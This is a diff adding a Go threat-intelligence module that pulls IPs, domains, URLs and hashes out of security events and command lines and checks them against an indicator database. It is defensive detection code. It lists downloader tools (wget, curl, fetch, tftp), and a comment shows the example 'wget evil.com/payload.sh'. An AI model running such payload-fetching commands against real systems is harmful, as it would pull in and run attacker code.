@@ -0,0 +1,150 @@
+package intel
+
+import (
+	"net/netip"
+	"net/url"
+	"nox/internal/model"
+	"regexp"
+	"strings"
+)
+
+var (
+	urlPattern = regexp.MustCompile(`(?i)\b(?:https?|ftp)://[^\s'"<>|;]+`)
+	ipPattern  = regexp.MustCompile(`\b(?:\d{1,3}\.){3}\d{1,3}\b`)
+)
+
+// downloaders take a URL as an argument, often without a scheme:
+// `wget evil.com/payload.sh`.
+var downloaders = map[string]bool{
+	"wget":  true,
+	"curl":  true,
+	"fetch": true,
+	"tftp":  true,
+}
+
+// hashFields are the metadata keys parsers use for file hashes.
+var hashFields = []string{"sha256", "sha1", "md5", "hash"}
+
+// Observables are the values in an event worth checking against intel.
+type Observables struct {
+	IPs     []string
+	Domains []string
+	URLs    []string
+	Hashes  []string
+}
+
+// Extract collects observables from the event's source and from the URLs,
+// hosts and IPs in its command line.
+func Extract(event model.Event) Observables {
+	var obs Observables
+	seen := make(map[string]bool)
+	add := func(list *[]string, value string) {
+		if value != "" && !seen[value] {
+			seen[value] = true
+			*list = append(*list, value)
+		}
+	}
+
+	if _, err := netip.ParseAddr(event.Source); err == nil {
+		add(&obs.IPs, event.Source)
+	}
+
+	for _, field := range hashFields {
+		add(&obs.Hashes, strings.ToLower(event.Metadata[field]))
+	}
+
+	command := event.Metadata["command"]
+	if command == "" {
+		return obs
+	}
+
+	for _, raw := range urlPattern.FindAllString(command, -1) {
+		add(&obs.URLs, raw)
+	}
+
+	fields := strings.Fields(command)
+	for i, field := range fields {
+		if !downloaders[baseName(field)] {
+			continue
+		}
+		for _, arg := range fields[i+1:] {
+			if strings.HasPrefix(arg, "-") || strings.Contains(arg, "://") {
+				continue
+			}
+			if raw := "http://" + strings.Trim(arg, `'"`); looksLikeHost(raw) {
+				add(&obs.URLs, raw)
+			}
+		}
+	}
+
+	for _, raw := range obs.URLs {
+		if u, err := url.Parse(raw); err == nil {
+			if _, err := netip.ParseAddr(u.Hostname()); err == nil {
+				add(&obs.IPs, u.Hostname())
+			} else {
+				add(&obs.Domains, normalizeDomain(u.Hostname()))
+			}
+		}
+	}
+
+	for _, ip := range ipPattern.FindAllString(command, -1) {
+		if _, err := netip.ParseAddr(ip); err == nil {
+			add(&obs.IPs, ip)
+		}
+	}
+
+	return obs
+}
+
+func baseName(path string) string {
+	return path[strings.LastIndex(path, "/")+1:]
+}
+
+// looksLikeHost rejects downloader arguments that are file names rather than
+// hosts, such as `-O payload.sh`'s argument.
+func looksLikeHost(raw string) bool {
+	u, err := url.Parse(raw)
+	if err != nil {
+		return false
+	}
+	host := u.Hostname()
+	if _, err := netip.ParseAddr(host); err == nil {
+		return true
+	}
+	dot := strings.LastIndex(host, ".")
+	if dot <= 0 || dot == len(host)-1 {
+		return false
+	}
+	// a file extension is not a TLD.
+	switch host[dot+1:] {
+	case "sh", "py", "pl", "txt", "tar", "gz", "tgz", "zip", "bin", "elf", "so", "exe", "log", "conf":
+		return false
+	}
+	return true
+}
+
+// MatchEvent checks every observable in the event against db.
+func (db *Database) MatchEvent(event model.Event) []Match {
+	obs := Extract(event)
+	at := event.Timestamp
+
+	var result []Match
+	for _, ip := range obs.IPs {
+		result = append(result, db.MatchIP(ip, at)...)
+	}
+	for _, raw := range obs.URLs {
+		normalized, ok := normalizeURL(raw)
+		if !ok {
+			continue
+		}
+		// host matches are picked up through Domains and IPs below.
+		result = append(result, matches(normalized, liveIndicators(db.urls[normalized], at))...)
+	}
+	for _, domain := range obs.Domains {
+		result = append(result, db.MatchDomain(domain, at)...)
+	}
+	for _, hash := range obs.Hashes {
+		result = append(result, db.MatchHash(hash, at)...)
+	}
+	return result
+}